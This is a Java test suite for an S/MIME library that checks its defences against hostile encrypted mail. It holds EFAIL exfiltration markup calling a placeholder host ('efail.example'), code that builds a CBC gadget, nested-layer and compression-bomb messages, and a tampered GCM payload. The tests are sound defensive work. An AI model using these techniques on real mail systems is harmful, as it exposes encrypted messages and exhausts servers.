package org.securemessaging.verification;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedOutputStream;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.bouncycastle.asn1.ASN1OctetString;
import org.bouncycastle.asn1.cms.ContentInfo;
import org.bouncycastle.asn1.cms.EnvelopedData;
import org.bouncycastle.cms.CMSCompressedDataStreamGenerator;
import org.bouncycastle.cms.jcajce.ZlibCompressor;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.securemessaging.certificate.Certificate;
import org.securemessaging.cms.CertifiedKey;
import org.securemessaging.cms.decrypt.HeldKey;
import org.securemessaging.cms.decrypt.KeyRing;
import org.securemessaging.cms.encrypt.ContentCipher;
import org.securemessaging.cms.encrypt.EncryptionPlan;
import org.securemessaging.cms.encrypt.Encryptor;
import org.securemessaging.cms.encrypt.KeyRecipient;
import org.securemessaging.keys.TestKey;
import org.securemessaging.mime.MessageBytes;
import org.securemessaging.result.ReasonCode;
import org.securemessaging.trust.TrustAnchors;

/**
 * Encrypted messages of those who want a plaintext that they can't read, or the server's time and
 * memory. What is large is opened in a JVM with 64 MB of heap.
 */
@Timeout(value = 300, unit = TimeUnit.SECONDS)
class HostileEncryptionTest {
    private static final TestKey BOB = TestKey.of("RSA", TestKey.BOTH, "bob@example.org");
    private static final String HEADER =
            "From: eve@example.net\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n";
    private static final String SECRET =
            "Content-Type: text/plain\r\n\r\nthe merger is off, tell nobody\r\n";
    private static final int BLOCK = 16;

    @TempDir private Path folder;
    private Path temporary;

    @BeforeEach
    void writeKey() throws IOException {
        temporary = Files.createDirectory(folder.resolve("temporary"));
        Files.write(folder.resolve("bob.pem"), BOB.clearPem());
    }

    /** EFAIL's direct exfiltration (Poddebniak and others 2018, §3), and its relatives. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "multipart/mixed",
                "multipart/alternative",
                "multipart/related",
                "multipart/digest",
                "multipart/report"
            })
    void anEncryptedPartBetweenOthersShouldStayClosed(String type) throws IOException {
        shouldStayClosed(
                "Content-Type: "
                        + type
                        + "; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
                        + "<img src=\"http://efail.example/\r\n--x\r\n"
                        + encrypted(SECRET, ContentCipher.AES_256_CBC)
                        + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n");
    }

    @Test
    void anEncryptedPartAloneInAMultipartShouldStayClosed() throws IOException {
        shouldStayClosed(
                "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
                        + encrypted(SECRET, ContentCipher.AES_256_CBC)
                        + "\r\n--x--\r\n");
    }

    @Test
    void anEncryptedMessageForwardedBesideOthersShouldStayClosed() throws IOException {
        shouldStayClosed(
                "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nsee below\r\n--x\r\n"
                        + "Content-Type: message/rfc822\r\n\r\n"
                        + HEADER
                        + encrypted(SECRET, ContentCipher.AES_256_GCM)
                        + "\r\n--x--\r\n");
    }

    @Test
    void anEncryptedPartBesideOthersInsideASignatureShouldStayClosed() throws IOException {
        shouldStayClosed(
                "Content-Type: multipart/signed; boundary=s\r\n\r\n--s\r\n"
                        + "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\n<a href=\"\r\n"
                        + "--x\r\n"
                        + encrypted(SECRET, ContentCipher.AES_256_CBC)
                        + "\r\n--x--\r\n\r\n--s\r\nContent-Type: application/pkcs7-signature\r\n\r\n"
                        + "x\r\n--s--\r\n");
    }

    /**
     * EFAIL's CBC gadget (§4.2): from a block whose plaintext is known another plaintext is made,
     * between two blocks that nobody knows. It can't be told from honest CBC, so it is marked. A
     * block that nobody knows may hold a line end, which ends the header too soon: so an attacker
     * tries more than once.
     */
    @Test
    void aGadgetInCbcShouldBeMarkedAsWithoutIntegrity() throws IOException {
        String wanted = "\r\n\r\n<img src=//e";
        boolean shown = false;
        for (int attempt = 0; attempt < 50 && !shown; attempt++) {
            try (MessageBytes message = bytes(HEADER + part(withGadget(wanted)));
                    OpenedMessage opened = open(message)) {
                assertThat(opened.opened()).isTrue();
                assertThat(opened.authenticated()).isFalse();
                assertThat(opened.report().reasons()).contains(ReasonCode.NO_INTEGRITY);
                try (InputStream copy = opened.copy()) {
                    shown =
                            new String(copy.readAllBytes(), StandardCharsets.ISO_8859_1)
                                    .contains(wanted);
                }
            }
        }
        assertThat(shown).isTrue();
    }

    private static byte[] withGadget(String wanted) throws IOException {
        byte[] structure = structure(SECRET.repeat(4), ContentCipher.AES_256_CBC);
        EnvelopedData data =
                EnvelopedData.getInstance(ContentInfo.getInstance(structure).getContent());
        byte[] iv =
                ASN1OctetString.getInstance(
                                data.getEncryptedContentInfo()
                                        .getContentEncryptionAlgorithm()
                                        .getParameters())
                        .getOctets();
        byte[] content = data.getEncryptedContentInfo().getEncryptedContent().getOctets();
        byte[] gadget = new byte[BLOCK];
        for (int i = 0; i < BLOCK; i++) {
            gadget[i] = (byte) (iv[i] ^ SECRET.charAt(i) ^ wanted.charAt(i));
        }
        int at = indexOf(structure, Arrays.copyOf(content, BLOCK));
        // The first block again, behind one that makes the wanted text of it.
        System.arraycopy(gadget, 0, structure, at + BLOCK, BLOCK);
        System.arraycopy(content, 0, structure, at + 2 * BLOCK, BLOCK);
        return structure;
    }

    @Test
    void aThousandEncryptedLayersShouldEndAtTheLimit() throws Exception {
        byte[] inside = SECRET.getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < 1_000; i++) {
            ByteArrayOutputStream around = new ByteArrayOutputStream();
            around.writeBytes(
                    ("Content-Type: application/pkcs7-mime\r\n"
                                    + "Content-Transfer-Encoding: binary\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            around.writeBytes(structure(inside, ContentCipher.AES_128_GCM));
            inside = around.toByteArray();
        }
        try (OutputStream out = Files.newOutputStream(folder.resolve("message.eml"))) {
            out.write(HEADER.getBytes(StandardCharsets.US_ASCII));
            out.write(inside);
        }

        assertThat(openInSmallHeap())
                .first()
                .asString()
                .contains("limit-exceeded")
                .doesNotContain("malformed");
    }

    @Test
    void aBombInsideAnEncryptedMessageShouldNotBeInflated() throws Exception {
        Path bomb = folder.resolve("bomb");
        try (OutputStream file = new BufferedOutputStream(Files.newOutputStream(bomb))) {
            file.write(
                    ("Content-Type: application/pkcs7-mime\r\n"
                                    + "Content-Transfer-Encoding: binary\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            try (OutputStream content =
                    new CMSCompressedDataStreamGenerator().open(file, new ZlibCompressor())) {
                byte[] zeros = new byte[1 << 20];
                for (int i = 0; i < 1_024; i++) {
                    content.write(zeros);
                }
            }
        }
        try (OutputStream out = Files.newOutputStream(folder.resolve("message.eml"))) {
            out.write(
                    (HEADER
                                    + "Content-Type: application/pkcs7-mime\r\n"
                                    + "Content-Transfer-Encoding: base64\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            try (OutputStream base64 = Base64.getMimeEncoder().wrap(out);
                    InputStream content = Files.newInputStream(bomb)) {
                new Encryptor(TestKey.PROVIDER)
                        .encrypt(content, plan(ContentCipher.AES_256_GCM), base64);
            }
        }

        assertThat(openInSmallHeap()).first().asString().contains("limit-exceeded");
    }

    @Test
    void aHundredMegabytesWithAWrongTagShouldLeaveNothing() throws Exception {
        Path structure = folder.resolve("large");
        try (OutputStream file = new BufferedOutputStream(Files.newOutputStream(structure));
                OutputStream content =
                        new Encryptor(TestKey.PROVIDER)
                                .open(plan(ContentCipher.AES_256_GCM), file)) {
            byte[] lines = "secret\r\n".repeat(1 << 17).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 100; i++) {
                content.write(lines);
            }
        }
        try (RandomAccessFile file = new RandomAccessFile(structure.toFile(), "rw")) {
            file.seek(file.length() - 7); // Before three ends of contents.
            int octet = file.read();
            file.seek(file.length() - 7);
            file.write(octet ^ 1);
        }
        try (OutputStream out = Files.newOutputStream(folder.resolve("message.eml"))) {
            out.write(
                    (HEADER
                                    + "Content-Type: application/pkcs7-mime\r\n"
                                    + "Content-Transfer-Encoding: binary\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            Files.copy(structure, out);
        }

        assertThat(openInSmallHeap().get(0)).isEqualTo("opened false decryption-failed encrypted");
    }

    private void shouldStayClosed(String body) throws IOException {
        try (MessageBytes message = bytes(HEADER + body);
                OpenedMessage opened = open(message)) {
            assertThat(opened.opened()).isFalse();
            assertThat(opened.report().toString()).doesNotContain("merger");
            assertThat(opened.report().layers())
                    .flatExtracting(LayerReport::findings)
                    .extracting(finding -> finding.reason())
                    .doesNotContain(ReasonCode.DECRYPTED);
        }
    }

    private OpenedMessage open(MessageBytes message) throws IOException {
        KeyRing keys = recipient -> List.of(new Held());
        return new TestEngine(temporary, TestKey.PROVIDER, TrustAnchors.of(List.of()))
                .open(message, keys);
    }

    /** What it says there; it must be quick and leave no plaintext behind. */
    private List<String> openInSmallHeap() throws IOException, InterruptedException {
        Path output = folder.resolve("output.txt");
        Process process =
                new ProcessBuilder(
                                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                                "-Xmx64m",
                                "-cp",
                                System.getProperty("java.class.path"),
                                SmallHeapOpenMain.class.getName(),
                                temporary.toString(),
                                folder.resolve("bob.pem").toString(),
                                folder.resolve("message.eml").toString())
                        .redirectErrorStream(true)
                        .redirectOutput(output.toFile())
                        .start();
        assertThat(process.waitFor()).as(Files.readString(output)).isZero();
        try (Stream<String> lines = Files.lines(output)) {
            List<String> said = lines.filter(line -> !line.startsWith("SLF4J")).toList();
            assertThat(said.get(1)).isEqualTo("left 0");
            assertThat(Integer.parseInt(said.get(2).substring("seconds ".length()))).isLessThan(10);
            return said;
        }
    }

    private record Held() implements HeldKey {
        @Override
        public Certificate certificate() {
            return BOB.certificate();
        }

        @Override
        public CertifiedKey open() {
            return BOB.certified();
        }
    }

    private static String encrypted(String content, ContentCipher cipher) throws IOException {
        return part(structure(content, cipher));
    }

    private static String part(byte[] structure) {
        return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n"
                + Base64.getMimeEncoder().encodeToString(structure)
                + "\r\n";
    }

    private static byte[] structure(String content, ContentCipher cipher) throws IOException {
        return structure(content.getBytes(StandardCharsets.US_ASCII), cipher);
    }

    private static byte[] structure(byte[] content, ContentCipher cipher) throws IOException {
        ByteArrayOutputStream structure = new ByteArrayOutputStream();
        new Encryptor(TestKey.PROVIDER)
                .encrypt(new ByteArrayInputStream(content), plan(cipher), structure);
        return structure.toByteArray();
    }

    private static EncryptionPlan plan(ContentCipher cipher) {
        return new EncryptionPlan(cipher, false, List.of(KeyRecipient.of(BOB.certificate())));
    }

    private static MessageBytes bytes(String text) {
        return MessageBytes.of(text.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static int indexOf(byte[] octets, byte[] sought) {
        for (int i = 0; i <= octets.length - sought.length; i++) {
            if (Arrays.equals(octets, i, i + sought.length, sought, 0, sought.length)) {
                return i;
            }
        }
        throw new AssertionError("not there");
    }
}
